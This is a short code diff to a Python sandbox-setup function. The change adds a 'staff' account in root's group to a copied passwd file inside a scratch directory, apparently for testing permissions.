@@ -28,6 +28,7 @@ def enter_machine():
             shutil.copy(f"/etc/{name}", f"{d}/{name}")
         with open(f"{d}/passwd", "a", encoding="ascii") as f:
             f.writelines(f"{user}:x:{uid}:{uid or 1}::{d}/{user}:/bin/sh\n" for user, uid in ACCOUNTS.items())
+            f.write(f"staff:x:61004:0::{d}:/bin/sh\n")  # of root's group
         with open(f"{d}/group", "a", encoding="ascii") as f:
             f.writelines(f"{user}:x:{uid}:\n" for user, uid in ACCOUNTS.items() if uid)
             f.write(f"lab:x:{LAB}:ann\n")
